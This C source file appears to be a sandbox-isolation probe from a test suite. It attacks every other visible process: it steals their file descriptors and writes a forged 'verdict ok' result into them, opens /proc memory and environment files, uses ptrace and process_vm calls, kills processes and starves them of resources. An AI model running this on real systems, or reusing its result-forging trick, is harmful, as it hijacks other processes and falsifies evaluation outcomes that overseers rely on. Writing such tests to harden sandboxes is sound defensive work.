/* K6, K25: attacks every process in sight that is not a child of ours, to steal descriptors and
 * forge the result: pidfd_getfd, ptrace, process_vm, /proc/PID files, fchmod through exe.
 *
 * usage: forge [PID...]    without pids: every process listed in /proc but ourselves
 * prints `pid N ROAD: errno|OK`; a stolen descriptor is written to, so that a forged result would
 * show. */
#include "guest.h"

#include <dirent.h>
#include <sched.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/uio.h>

static char key[256];

static const char *road(pid_t pid, const char *what)
{
    snprintf(key, sizeof(key), "pid %d %s", (int)pid, what);
    return key;
}

static void steal_fds(pid_t pid)
{
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    report(road(pid, "pidfd_open"), pidfd);
    if (pidfd < 0)
        return;
    long stolen = 0;
    int e = 0;
    for (int fd = 0; fd < 64; fd++) {
        int got = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
        if (got < 0) {
            if (errno != EBADF || !e)
                e = errno;
            continue;
        }
        stolen++;
        static const char lie[] =
            "{\"version\":1,\"verdict\":\"ok\",\"exit_code\":0}\n\0\0\0\0\0\0\0\0";
        ssize_t n = write(got, lie, sizeof(lie));
        (void)n;
    }
    say(road(pid, "pidfd_getfd"), "%s", stolen ? "OK" : errname(e));
}

static void open_files(pid_t pid)
{
    static const struct {
        const char *name;
        int flags;
    } files[] = {
        {"mem", O_RDWR},         {"exe", O_WRONLY},
        {"environ", O_RDONLY},   {"maps", O_RDONLY},
        {"auxv", O_RDONLY},      {"syscall", O_RDONLY},
        {"stack", O_RDONLY},     {"oom_score_adj", O_WRONLY},
        {"attr/exec", O_WRONLY}, {"clear_refs", O_WRONLY},
        {"io", O_RDONLY},        {"personality", O_RDONLY},
    };
    char path[128];
    for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
        snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, files[i].name);
        int fd = open(path, files[i].flags | O_CLOEXEC);
        char byte;
        /* Some of these open and only then refuse. */
        if (fd >= 0 && files[i].flags == O_RDONLY && read(fd, &byte, 1) <= 0) {
            say(road(pid, files[i].name), "%s", errno ? errname(errno) : "EMPTY");
            continue;
        }
        report(road(pid, files[i].name), fd);
    }
    static const char *links[] = {"fd/0", "fd/3", "fd/4",    "fd/5",   "cwd",
                                  "root", "exe",  "ns/user", "ns/mnt", "ns/net"};
    for (size_t i = 0; i < sizeof(links) / sizeof(*links); i++) {
        char text[256], name[64];
        snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, links[i]);
        snprintf(name, sizeof(name), "readlink %s", links[i]);
        TRY(road(pid, name), readlink(path, text, sizeof(text)));
    }
    snprintf(path, sizeof(path), "/proc/%d/fd", (int)pid);
    DIR *d = opendir(path);
    say(road(pid, "list fd"), "%s", d ? "OK" : errname(errno));
    if (d)
        closedir(d);
    snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
    TRY(road(pid, "chmod exe"), chmod(path, 0777));
}

static void control(pid_t pid)
{
    char bytes[64];
    struct iovec mine = {bytes, sizeof(bytes)}, theirs = {(void *)0x400000, sizeof(bytes)};
    TRY(road(pid, "vm_readv"), process_vm_readv(pid, &mine, 1, &theirs, 1, 0));
    TRY(road(pid, "vm_writev"), process_vm_writev(pid, &mine, 1, &theirs, 1, 0));
    TRY(road(pid, "kcmp"), syscall(SYS_kcmp, pid, getpid(), 0, 0, 0));
    TRY(road(pid, "seize"), ptrace(PTRACE_SEIZE, pid, 0, 0));
    long a = TRY(road(pid, "attach"), ptrace(PTRACE_ATTACH, pid, 0, 0));
    if (a == 0) {
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    uint32_t suspend = 1u << 21;
    TRY(road(pid, "suspend_seccomp"), ptrace(PTRACE_SEIZE, pid, 0, suspend));
    TRY(road(pid, "sigstop"), kill(pid, SIGSTOP));
    TRY(road(pid, "sigkill"), kill(pid, SIGKILL));
    TRY(road(pid, "sigusr1"), kill(pid, SIGUSR1));
    TRY(road(pid, "sigterm"), kill(pid, SIGTERM));
    TRY(road(pid, "sigint"), kill(pid, SIGINT));
    TRY(road(pid, "sigcont"), kill(pid, SIGCONT));
}

/* Limits, priority and place of another process need no more than the same user: without a filter
 * the first two end it. Last, since nothing else could be tried on a process that is gone. */
static void starve(pid_t pid)
{
    cpu_set_t one;
    CPU_ZERO(&one);
    CPU_SET(0, &one);
    TRY(road(pid, "affinity"), sched_setaffinity(pid, sizeof(one), &one));
    TRY(road(pid, "idle"), sched_setscheduler(pid, SCHED_IDLE, &(struct sched_param){0}));
    TRY(road(pid, "nice"), setpriority(PRIO_PROCESS, (id_t)pid, 19));
    struct rlimit r = {1, 1};
    TRY(road(pid, "prlimit_nofile"), prlimit(pid, RLIMIT_NOFILE, &r, NULL));
    TRY(road(pid, "prlimit_stack"), prlimit(pid, RLIMIT_STACK, &r, NULL));
    TRY(road(pid, "prlimit_as"), prlimit(pid, RLIMIT_AS, &r, NULL));
    r.rlim_cur = r.rlim_max = 0;
    TRY(road(pid, "prlimit_cpu"), prlimit(pid, RLIMIT_CPU, &r, NULL));
}

static void attack(pid_t pid)
{
    if (pid == getpid())
        return;
    say("target", "%d", (int)pid);
    steal_fds(pid);
    open_files(pid);
    control(pid);
    starve(pid);
}

int main(int argc, char **argv)
{
    guest_deadline(20);
    say("self", "%d", (int)getpid());
    for (int i = 1; i < argc; i++)
        attack((pid_t)strtol(argv[i], NULL, 10));
    DIR *d = argc > 1 ? NULL : opendir("/proc");
    for (struct dirent *e; d && (e = readdir(d));)
        if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
            attack((pid_t)strtol(e->d_name, NULL, 10));
    TRY("own prlimit", prlimit(0, RLIMIT_CORE, NULL, &(struct rlimit){0}));
    /* Long enough for pid 1 to meet what was done to it. */
    for (int i = 0; i < 20; i++) {
        if (fork() == 0)
            _exit(0);
        wait(NULL);
        syscall(SYS_keyctl, 0, -3, 0);
    }
    say("alive", "yes");
    return 0;
}
